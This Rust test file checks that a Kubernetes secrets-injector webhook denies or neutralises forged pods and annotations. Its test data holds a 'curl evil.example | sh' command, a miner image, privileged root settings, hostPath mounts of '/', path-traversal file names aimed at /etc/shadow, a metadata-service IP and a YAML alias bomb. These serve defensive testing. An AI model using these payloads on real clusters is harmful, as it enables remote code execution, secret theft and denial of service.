//! A pod cannot escalate through its annotations or a forged spec: it cannot choose the injector's
//! image or command, run it as root or privileged, give it more than the first target
//! container's identity, swap its in-memory volume for another, write outside that volume, mount
//! over another volume, or point it at a host of its choosing. Each test sends what an attacker
//! would and checks the pod the API server would get (or the denial).

use secrets_injector_objects::{PathTranslation, Settings};
use secrets_injector_webhook::mutation::INJECTOR_PATH;
use secrets_injector_webhook::mutation::MutationConfig;
use secrets_injector_webhook::mutation::{Decision, mutate};
use serde_json::{Value, json};

use crate::support::fuzz::{IMAGE, check_injected};

const OBJECTS: &str = "- objectName: /app/db\n  objectType: ssmparameter\n";
const TOKEN_DIR: &str = "/var/run/secrets/eks.amazonaws.com/serviceaccount";

fn cfg() -> MutationConfig {
    let mut cfg = MutationConfig::for_tests(IMAGE);
    cfg.default_region = Some("us-east-1".to_owned());
    cfg
}

fn pod(annotations: Value, spec: Value) -> Value {
    let mut annotations = annotations;
    if annotations.get("secrets-injector.io/objects").is_none() {
        annotations["secrets-injector.io/objects"] = json!(OBJECTS);
    }
    json!({
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "web", "namespace": "apps", "annotations": annotations},
        "spec": spec
    })
}

fn app() -> Value {
    json!({"name": "app", "image": "app:1"})
}

/// The injected pod, checked with every invariant of the fuzz harness.
fn injected(pod: &Value) -> (Value, Vec<String>) {
    let cfg = cfg();
    let Decision::Patch { patch, warnings } = mutate(pod, &cfg) else {
        panic!("expected the pod to be injected: {:?}", mutate(pod, &cfg));
    };
    let mut out = pod.clone();
    json_patch::patch(&mut out, &patch).expect("the patch applies");
    check_injected(pod, &out, &cfg);
    (out, warnings)
}

fn denied(pod: &Value) -> String {
    match mutate(pod, &cfg()) {
        Decision::Deny(message) => message,
        other => panic!("expected a denial, got {other:?}"),
    }
}

fn injector(pod: &Value) -> &Value {
    pod["spec"]["initContainers"]
        .as_array()
        .and_then(|list| list.iter().find(|c| c["name"] == "secrets-injector"))
        .expect("the injector init container")
}

fn mounts(container: &Value) -> Vec<(String, String, bool)> {
    container["volumeMounts"]
        .as_array()
        .map(|list| {
            list.iter()
                .map(|m| {
                    (
                        m["name"].as_str().unwrap_or_default().to_owned(),
                        m["mountPath"].as_str().unwrap_or_default().to_owned(),
                        m["readOnly"] == json!(true),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn a_pod_cannot_choose_the_injector_image_or_command() {
    let forged = json!({
        "name": "secrets-injector",
        "image": "evil.example/miner:latest",
        "command": ["/bin/sh", "-c", "curl evil.example | sh"],
        "args": ["--steal"],
    });
    let pod = pod(
        json!({"secrets-injector.io/image": "evil.example/miner:latest", "secrets-injector.io/command": "/bin/sh"}),
        json!({"initContainers": [forged], "containers": [app()]}),
    );
    let (out, warnings) = injected(&pod);
    let injector = injector(&out);
    assert_eq!(injector["image"], json!(IMAGE));
    assert_eq!(injector["command"], json!([INJECTOR_PATH]));
    let args = injector["args"].as_array().expect("args");
    assert_eq!(args[0], json!("--mount-path=/mnt/secrets-store"));
    assert!(!args.contains(&json!("--steal")), "{args:?}");
    for name in ["secrets-injector.io/image", "secrets-injector.io/command"] {
        assert!(
            warnings
                .iter()
                .any(|w| w.starts_with(&format!("annotation {name} is not known and is ignored"))),
            "{warnings:?}"
        );
    }
}

#[test]
fn a_forged_injector_loses_root_privileges_and_every_extra_field() {
    let forged = json!({
        "name": "secrets-injector",
        "image": IMAGE,
        "command": [INJECTOR_PATH],
        "securityContext": {
            "privileged": true, "runAsUser": 0, "runAsGroup": 0, "runAsNonRoot": false,
            "allowPrivilegeEscalation": true, "readOnlyRootFilesystem": false,
            "capabilities": {"add": ["SYS_ADMIN", "NET_RAW"]}, "seccompProfile": {"type": "Unconfined"},
            "procMount": "Unmasked"
        },
        "envFrom": [{"secretRef": {"name": "aws-admin-keys"}}],
        "env": [{"name": "AWS_ENDPOINT_URL", "value": "http://evil.example"}],
        "volumeMounts": [{"name": "host", "mountPath": "/host"}],
        "volumeDevices": [{"name": "disk", "devicePath": "/dev/xvda"}],
        "workingDir": "/host",
        "lifecycle": {"postStart": {"exec": {"command": ["/bin/sh"]}}},
        "ports": [{"containerPort": 22, "hostPort": 22}],
        "stdin": true,
        "tty": true,
        "restartPolicy": "Always"
    });
    let pod = pod(
        json!({}),
        json!({
            "initContainers": [forged],
            "containers": [app()],
            "volumes": [{"name": "host", "hostPath": {"path": "/"}}, {"name": "disk", "persistentVolumeClaim": {"claimName": "d"}}]
        }),
    );
    let (out, _) = injected(&pod);
    let injector = injector(&out);
    let context = injector["securityContext"]
        .as_object()
        .expect("securityContext");
    assert_eq!(
        Value::Object(context.clone()),
        json!({
            "allowPrivilegeEscalation": false,
            "capabilities": {"drop": ["ALL"]},
            "readOnlyRootFilesystem": true,
            "runAsNonRoot": true,
            "runAsUser": 65532,
            "runAsGroup": 65532,
            "seccompProfile": {"type": "RuntimeDefault"}
        })
    );
    for field in [
        "envFrom",
        "env",
        "volumeDevices",
        "workingDir",
        "lifecycle",
        "ports",
        "stdin",
        "tty",
        "restartPolicy",
    ] {
        assert!(
            injector.get(field).is_none(),
            "the forged {field} survived: {}",
            injector[field]
        );
    }
    assert_eq!(
        mounts(injector),
        vec![(
            "secrets-injector".to_owned(),
            "/mnt/secrets-store".to_owned(),
            false
        )]
    );
}

#[test]
fn root_and_privileged_apps_still_get_a_non_root_injector() {
    let mut root_app = app();
    root_app["securityContext"] = json!({"runAsUser": 0, "runAsGroup": 0, "privileged": true, "capabilities": {"add": ["ALL"]}});
    let pod = pod(
        json!({}),
        json!({
            "securityContext": {"runAsUser": 0, "runAsGroup": 0, "runAsNonRoot": false, "fsGroup": 0},
            "hostPID": true,
            "hostNetwork": true,
            "containers": [root_app]
        }),
    );
    let (out, _) = injected(&pod);
    let context = &injector(&out)["securityContext"];
    assert_eq!(context["runAsUser"], json!(65532));
    assert_eq!(context["runAsGroup"], json!(65532));
    assert_eq!(context["runAsNonRoot"], json!(true));
    assert!(context.get("privileged").is_none());
    assert_eq!(context["capabilities"], json!({"drop": ["ALL"]}));
}

#[test]
fn a_forged_volume_of_the_webhook_becomes_its_in_memory_volume() {
    for forged in [
        json!({"name": "secrets-injector", "hostPath": {"path": "/etc"}}),
        json!({"name": "secrets-injector", "persistentVolumeClaim": {"claimName": "shared"}}),
        json!({"name": "secrets-injector", "emptyDir": {}}),
        json!({"name": "secrets-injector", "emptyDir": {"medium": "Memory"}}),
        json!({"name": "secrets-injector", "emptyDir": {"medium": "Memory", "sizeLimit": "64Gi"}}),
        json!({"name": "secrets-injector", "emptyDir": {"medium": "Memory", "sizeLimit": "16Mi"}, "hostPath": {"path": "/"}}),
    ] {
        let pod = pod(
            json!({}),
            json!({"containers": [app()], "volumes": [forged.clone()]}),
        );
        let (out, _) = injected(&pod);
        let volumes = out["spec"]["volumes"].as_array().expect("volumes");
        assert_eq!(
            volumes,
            &vec![
                json!({"name": "secrets-injector", "emptyDir": {"medium": "Memory", "sizeLimit": "16Mi"}})
            ],
            "from {forged}"
        );
    }
}

#[test]
fn the_files_are_read_only_in_every_target_even_when_the_pod_mounted_them_itself() {
    let mut writer = app();
    writer["volumeMounts"] =
        json!([{"name": "secrets-injector", "mountPath": "/mnt/secrets-store", "readOnly": false}]);
    let sidecar = json!({"name": "proxy", "image": "proxy:1", "restartPolicy": "Always"});
    let pod = pod(
        json!({"secrets-injector.io/containers": "app,proxy"}),
        json!({"initContainers": [sidecar], "containers": [writer]}),
    );
    let (out, _) = injected(&pod);
    for container in [
        &out["spec"]["containers"][0],
        &out["spec"]["initContainers"][1],
    ] {
        let own: Vec<_> = mounts(container)
            .into_iter()
            .filter(|(n, _, _)| n == "secrets-injector")
            .collect();
        assert_eq!(
            own,
            vec![(
                "secrets-injector".to_owned(),
                "/mnt/secrets-store".to_owned(),
                true
            )],
            "{container}"
        );
    }
}

#[test]
fn a_second_writable_mount_of_the_files_is_refused_in_every_container() {
    let own =
        json!({"name": "secrets-injector", "mountPath": "/mnt/secrets-store", "readOnly": true});
    let writable = |path: &str, read_only: Option<bool>| {
        let mut mount = json!({"name": "secrets-injector", "mountPath": path});
        if let Some(read_only) = read_only {
            mount["readOnly"] = json!(read_only);
        }
        mount
    };
    let spec_with = |list: &str, container: Value| {
        let mut spec = json!({"containers": [app()]});
        if list == "containers" {
            spec["containers"] = json!([container]);
        } else {
            spec[list] = json!([container]);
        }
        spec
    };
    for read_only in [None, Some(false)] {
        // A target's second mount, beside its own (read-only) one.
        let mut target = app();
        target["volumeMounts"] = json!([own.clone(), writable("/data/rw", read_only)]);
        // The same mount in a container that is not a target, an init container, an ephemeral
        // container.
        let mut other = json!({"name": "other", "image": "o:1"});
        other["volumeMounts"] = json!([writable("/data/rw", read_only)]);
        for (list, container, name, annotations) in [
            ("containers", target, "app", json!({})),
            (
                "containers",
                other.clone(),
                "other",
                json!({"secrets-injector.io/containers": "ghost"}),
            ),
            ("initContainers", other.clone(), "other", json!({})),
            ("ephemeralContainers", other.clone(), "other", json!({})),
        ] {
            let pod = pod(annotations, spec_with(list, container));
            let message = denied(&pod);
            assert!(
                message.contains(&format!(
                    "container \"{name}\" mounts the volume \"secrets-injector\" at /data/rw writable"
                )) && message.contains("remove the mount or set readOnly: true"),
                "{list}, readOnly {read_only:?}: {message}"
            );
        }
    }
    // Read-only second mounts are fine, everywhere.
    let mut target = app();
    target["volumeMounts"] = json!([own.clone(), writable("/data/ro", Some(true))]);
    let mut debug = json!({"name": "debug", "image": "d:1"});
    debug["volumeMounts"] = json!([writable("/data/ro", Some(true))]);
    let pod = pod(
        json!({}),
        json!({"containers": [target], "ephemeralContainers": [debug]}),
    );
    injected(&pod);
}

#[test]
fn the_injector_gets_the_identity_of_the_first_target_only() {
    // The sidecar runs under another role, with its own token volume and a host mount: none of
    // it may reach the injector, which serves the app.
    let mut app = app();
    app["env"] = json!([{"name": "AWS_REGION", "value": "us-east-1"}]);
    let sidecar = json!({
        "name": "sidecar", "image": "s:1",
        "env": [
            {"name": "AWS_ROLE_ARN", "value": "arn:aws:iam::123456789012:role/admin"},
            {"name": "AWS_WEB_IDENTITY_TOKEN_FILE", "value": format!("{TOKEN_DIR}/token")},
            {"name": "AWS_CA_BUNDLE", "value": "/host/etc/ca.pem"}
        ],
        "volumeMounts": [
            {"name": "aws-iam-token", "mountPath": TOKEN_DIR, "readOnly": true},
            {"name": "host", "mountPath": "/host"}
        ]
    });
    let spec = json!({
        "containers": [app, sidecar],
        "volumes": [
            {"name": "aws-iam-token", "projected": {"sources": [{"serviceAccountToken": {"audience": "sts.amazonaws.com", "path": "token"}}]}},
            {"name": "host", "hostPath": {"path": "/"}}
        ]
    });
    // Named in another order, the app is still the first target (spec order).
    for annotations in [
        json!({}),
        json!({"secrets-injector.io/containers": "app"}),
        json!({"secrets-injector.io/containers": "sidecar, app"}),
    ] {
        let pod = pod(annotations.clone(), spec.clone());
        let (out, _) = injected(&pod);
        let injector = injector(&out);
        assert_eq!(
            injector["env"],
            json!([{"name": "AWS_REGION", "value": "us-east-1"}]),
            "{annotations}"
        );
        assert_eq!(
            mounts(injector),
            vec![(
                "secrets-injector".to_owned(),
                "/mnt/secrets-store".to_owned(),
                false
            )],
            "{annotations}"
        );
    }
}

#[test]
fn a_copied_path_cannot_pull_in_a_volume_the_first_target_does_not_mount() {
    let mut app = app();
    app["env"] = json!([
        {"name": "AWS_CA_BUNDLE", "value": "/host/etc/ssl/ca.pem"},
        {"name": "AWS_SHARED_CREDENTIALS_FILE", "value": "/data/credentials"},
        {"name": "AWS_CONFIG_FILE", "value": "/etc/../host/config"}
    ]);
    app["volumeMounts"] = json!([{"name": "data", "mountPath": "/data"}]);
    let other = json!({"name": "other", "image": "o:1", "volumeMounts": [{"name": "host", "mountPath": "/host"}]});
    let pod = pod(
        json!({"secrets-injector.io/containers": "app"}),
        json!({
            "containers": [app, other],
            "volumes": [{"name": "data", "emptyDir": {}}, {"name": "host", "hostPath": {"path": "/"}}]
        }),
    );
    let (out, _) = injected(&pod);
    // Only the app's own mount holding a copied path, and read-only even though the app's is not.
    assert_eq!(
        mounts(injector(&out)),
        vec![
            (
                "secrets-injector".to_owned(),
                "/mnt/secrets-store".to_owned(),
                false
            ),
            ("data".to_owned(), "/data".to_owned(), true)
        ]
    );
}

#[test]
fn a_copied_mount_cannot_replace_the_injector_binary() {
    // The app mounts a volume it writes at the directory of the injector's binary and names a
    // path in it in an AWS_* variable: copying that mount would let the pod's own file run as
    // the injector. The webhook must refuse the pod or leave the binary's directory alone.
    let mut app = app();
    app["env"] = json!([{"name": "AWS_PROFILE_HELPER", "value": INJECTOR_PATH}]);
    app["volumeMounts"] = json!([{"name": "tools", "mountPath": "/usr/local/bin"}]);
    let pod = pod(
        json!({}),
        json!({"containers": [app], "volumes": [{"name": "tools", "emptyDir": {}}]}),
    );
    match mutate(&pod, &cfg()) {
        Decision::Deny(message) => assert!(message.contains("/usr/local/bin"), "{message}"),
        Decision::Patch { patch, .. } => {
            let mut out = pod.clone();
            json_patch::patch(&mut out, &patch).expect("applies");
            for (volume, path, _) in mounts(injector(&out)) {
                assert!(
                    !INJECTOR_PATH.starts_with(&format!("{}/", path.trim_end_matches('/'))),
                    "the injector mounts {volume} at {path}, over its own binary {INJECTOR_PATH}"
                );
            }
        }
        Decision::Skip => panic!("the pod asks for objects"),
    }
}

/// Mount paths as a pod may write them: the runtime resolves `..`, `.` and doubled slashes, so
/// each of these is `/usr/local/bin`.
const ABNORMAL_BIN_DIRS: [&str; 4] = [
    "/usr/local/bin/x/..",
    "/usr/local/./bin",
    "/usr/local//bin",
    "/usr/lib/../local/bin/",
];

#[test]
fn a_copied_token_mount_written_abnormally_cannot_hide_the_injector_binary() {
    for dir in ABNORMAL_BIN_DIRS {
        let mut app = app();
        app["volumeMounts"] =
            json!([{"name": "aws-iam-token", "mountPath": dir, "readOnly": true}]);
        let pod = pod(
            json!({}),
            json!({"containers": [app], "volumes": [{"name": "aws-iam-token", "projected": {"sources": []}}]}),
        );
        let message = denied(&pod);
        assert!(
            message.contains(&format!("volume \"aws-iam-token\" at {dir},"))
                && message.contains(INJECTOR_PATH),
            "{dir}: {message}"
        );
    }
}

#[test]
fn a_copied_variable_mount_written_abnormally_cannot_hide_the_injector_binary() {
    for dir in ABNORMAL_BIN_DIRS {
        for value in [INJECTOR_PATH.to_owned(), format!("{dir}/injector")] {
            let mut app = app();
            app["env"] = json!([{"name": "AWS_PROFILE_HELPER", "value": value}]);
            app["volumeMounts"] = json!([{"name": "tools", "mountPath": dir}]);
            let pod = pod(
                json!({}),
                json!({"containers": [app], "volumes": [{"name": "tools", "emptyDir": {}}]}),
            );
            let message = denied(&pod);
            assert!(
                message.contains(&format!("volume \"tools\" at {dir},")),
                "{dir}, {value}: {message}"
            );
        }
    }
}

#[test]
fn a_mount_path_written_abnormally_is_refused() {
    for path in ABNORMAL_BIN_DIRS.into_iter().chain([
        "/mnt/x/../secrets",
        "/mnt/./secrets",
        "/mnt//secrets",
    ]) {
        let pod = pod(
            json!({"secrets-injector.io/mount-path": path}),
            json!({"containers": [app()]}),
        );
        let message = denied(&pod);
        assert!(
            message.starts_with(&format!(
                "annotation secrets-injector.io/mount-path: {path:?} is not a normal path"
            )),
            "{path}: {message}"
        );
    }
}

#[test]
fn an_existing_mount_written_abnormally_still_clashes_with_the_mount_path() {
    for existing in ["/x/../data", "/./data", "//data", "/data/x/..", "/data/."] {
        let mut app = app();
        app["volumeMounts"] = json!([{"name": "data", "mountPath": existing}]);
        let pod = pod(
            json!({"secrets-injector.io/mount-path": "/data"}),
            json!({"containers": [app], "volumes": [{"name": "data", "emptyDir": {}}]}),
        );
        let message = denied(&pod);
        assert!(
            message.contains(&format!(
                "/data is the same path as the mount {existing} (volume \"data\")"
            )),
            "{existing}: {message}"
        );
    }
}

#[test]
fn a_mount_path_over_the_injector_binary_is_refused() {
    // The files' volume mounted over /usr/local/bin would hide the binary: the pod could never
    // start, and a volume the pod wrote before would run in its place.
    for path in ["/usr/local/bin", "/usr/local", "/usr"] {
        let pod = pod(
            json!({"secrets-injector.io/mount-path": path}),
            json!({"containers": [app()]}),
        );
        let message = denied(&pod);
        assert!(
            message.starts_with("annotation secrets-injector.io/mount-path"),
            "{path}: {message}"
        );
    }
}

#[test]
fn the_mount_path_cannot_cover_or_enter_another_volume() {
    let mut app = app();
    app["volumeMounts"] = json!([
        {"name": "data", "mountPath": "/data"},
        {"name": "aws-iam-token", "mountPath": TOKEN_DIR, "readOnly": true}
    ]);
    let spec = json!({
        "containers": [app],
        "volumes": [{"name": "data", "emptyDir": {}}, {"name": "aws-iam-token", "projected": {"sources": []}}]
    });
    for (path, relation) in [
        ("/data", "is the same path as"),
        ("/data/", "is not a normal path"),
        ("/data/secrets", "lies inside"),
        ("/var/run/secrets", "contains"),
        (
            "/var/run/secrets/eks.amazonaws.com/serviceaccount",
            "is the same path as",
        ),
        ("/data/../etc", "is not a normal path"),
        ("/mnt/./x", "is not a normal path"),
        ("/mnt/\u{0}x", "is not a normal path"),
        ("mnt/secrets", "is not an absolute path"),
        ("/", "would hide the container's whole filesystem"),
    ] {
        let pod = pod(
            json!({"secrets-injector.io/mount-path": path}),
            spec.clone(),
        );
        let message = denied(&pod);
        assert!(
            message.starts_with("annotation secrets-injector.io/mount-path: "),
            "{path}: {message}"
        );
        assert!(message.contains(relation), "{path}: {message}");
    }
}

#[test]
fn file_names_cannot_leave_the_volume() {
    // Every way out is denied, naming the object; what is allowed lands inside the volume.
    for (alias, translation) in [
        ("..", "_"),
        (".", "_"),
        ("../escape", "False"),
        ("a/../../escape", "False"),
        ("x\u{0}y", "_"),
        ("a//b", "False"),
    ] {
        let objects = format!(
            "- objectName: /app/db\n  objectType: ssmparameter\n  objectAlias: {}\n",
            serde_json::to_string(alias).expect("string")
        );
        let pod = pod(
            json!({"secrets-injector.io/objects": objects, "secrets-injector.io/path-translation": translation}),
            json!({"containers": [app()]}),
        );
        let message = denied(&pod);
        assert!(
            message.starts_with(
                "annotation secrets-injector.io/objects: objects[0] (objectName \"/app/db\"): "
            ),
            "{alias:?}: {message}"
        );
    }
    let jmes = "- objectName: db\n  objectType: secretsmanager\n  jmesPath:\n    - {path: password, objectAlias: ../../etc/shadow}\n";
    let message = denied(&pod(
        json!({"secrets-injector.io/objects": jmes, "secrets-injector.io/path-translation": "False"}),
        json!({"containers": [app()]}),
    ));
    assert!(message.contains("jmesPath"), "{message}");
    for env_file in ["../profile", "/etc/profile", "..", "a/../../b"] {
        let message = denied(&pod(
            json!({"secrets-injector.io/env-file": env_file}),
            json!({"containers": [app()]}),
        ));
        assert!(
            message.starts_with("annotation secrets-injector.io/env-file: "),
            "{env_file}: {message}"
        );
    }
    // Absolute names are translated into the volume, never followed out of it.
    for (name, translation, file) in [
        ("/etc/passwd", PathTranslation::Replace('_'), "_etc_passwd"),
        ("/etc/passwd", PathTranslation::Directories, "etc/passwd"),
        (
            "//etc/passwd",
            PathTranslation::Replace('_'),
            "__etc_passwd",
        ),
    ] {
        let text = format!("- objectName: {name}\n  objectType: ssmparameter\n");
        let settings = Settings {
            path_translation: translation,
            ..Settings::new("us-east-1")
        };
        let plan = secrets_injector_objects::parse(&text, settings).expect("valid");
        assert_eq!(plan.objects[0].file.as_str(), file);
    }
}

#[test]
fn annotations_cannot_point_the_injector_at_another_host() {
    for region in [
        "evil.example",
        "us-east-1.evil.example",
        "169.254.169.254",
        "localhost:8080",
        "us-east-1/..",
        "US-EAST-1",
        "us-east-1@evil",
    ] {
        let message = denied(&pod(
            json!({"secrets-injector.io/region": region}),
            json!({"containers": [app()]}),
        ));
        assert!(
            message.starts_with("annotation secrets-injector.io/region: "),
            "{region}: {message}"
        );
        let message = denied(&pod(
            json!({"secrets-injector.io/failover-region": region}),
            json!({"containers": [app()]}),
        ));
        assert!(
            message.starts_with("annotation secrets-injector.io/failover-region: "),
            "{region}: {message}"
        );
        let mut app = app();
        app["env"] = json!([{"name": "AWS_REGION", "value": region}]);
        let message = denied(&pod(json!({}), json!({"containers": [app]})));
        assert!(message.starts_with("AWS_REGION "), "{region}: {message}");
    }
    // An ARN cannot carry a region either.
    let objects = "- objectName: arn:aws:ssm:evil.example:123456789012:parameter/db\n";
    let message = denied(&pod(
        json!({"secrets-injector.io/objects": objects}),
        json!({"containers": [app()]}),
    ));
    assert!(
        message.starts_with("annotation secrets-injector.io/objects: objects[0]"),
        "{message}"
    );
    // Annotations add no environment: the endpoint is the pod's own AWS_ENDPOINT_URL or AWS's.
    let pod = pod(
        json!({"secrets-injector.io/endpoint-url": "http://evil.example", "secrets-injector.io/env": "AWS_ENDPOINT_URL=http://evil.example"}),
        json!({"containers": [app()]}),
    );
    let (out, warnings) = injected(&pod);
    let injector = injector(&out);
    assert!(injector.get("env").is_none(), "{}", injector["env"]);
    assert!(!injector.to_string().contains("evil.example"), "{injector}");
    assert_eq!(warnings.len(), 2, "{warnings:?}");
}

#[test]
fn injector_resources_cannot_blow_up_the_webhook() {
    // The only annotation besides the objects that is parsed as YAML: it needs the same limits.
    // The work is bounded, not timed: what is over the size limit is denied before the parser
    // sees it, and an alias bomb stops at the parser's alias budget.
    let laughs = "a: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f,*f]\nlimits: {memory: 64Mi}\n";
    let deep = format!("limits: {}1{}", "[".repeat(100_000), "]".repeat(100_000));
    let big = format!("limits: {{memory: 64Mi}}\n#{}", "x".repeat(256 * 1024));
    let before_parsing = "bytes, over the limit of 4096 bytes";
    for (what, text, stopped_by) in [
        ("an alias bomb", laughs.to_owned(), "budget"),
        ("deep nesting", deep, before_parsing),
        ("256 KiB", big, before_parsing),
    ] {
        let pod = pod(
            json!({"secrets-injector.io/injector-resources": text}),
            json!({"containers": [app()]}),
        );
        let message = denied(&pod);
        assert!(
            message.starts_with("annotation secrets-injector.io/injector-resources: "),
            "{what}: {message:.300}"
        );
        assert!(
            message.contains(stopped_by),
            "{what} must stop at {stopped_by:?}: {message:.300}"
        );
        assert!(
            message.len() < 4096,
            "{what}: {} bytes: {message:.300}",
            message.len()
        );
    }
}

#[test]
fn an_opted_out_pod_with_a_forged_injector_is_left_to_the_api_server() {
    // inject: "false" skips the pod, forged container and all: it runs what the pod itself
    // declared, with no more than the pod could have had without this webhook.
    let forged = json!({"name": "secrets-injector", "image": "evil:1", "securityContext": {"privileged": true}});
    let pod = pod(
        json!({"secrets-injector.io/inject": "false"}),
        json!({"initContainers": [forged], "containers": [app()]}),
    );
    assert_eq!(mutate(&pod, &cfg()), Decision::Skip);
}

/// Tens of thousands of names in `env-containers`, each written twice (about 250 KB, what the
/// API server lets annotations hold): each missing container is one problem, counted once, and the
/// denial stays short.
#[test]
fn env_containers_with_a_huge_list_of_names_is_denied_counting_each_once() {
    let names: Vec<String> = (0..15_000).map(|i| format!("c{i}")).collect();
    let list = [names.join(","), names.join(",")].join(",");
    let mut spec = json!({"containers": [app()]});
    spec["containers"][0]["command"] = json!(["/app"]);
    let pod = pod(json!({"secrets-injector.io/env-containers": list}), spec);
    let Decision::Deny(message) = mutate(&pod, &cfg()) else {
        panic!("a pod naming containers it does not have is denied");
    };
    assert!(
        message.contains("the pod has no container \"c0\""),
        "{message}"
    );
    assert!(message.ends_with("; and 14980 more problems"), "{message}");
    assert!(message.len() < 12 * 1024, "{} bytes", message.len());
}
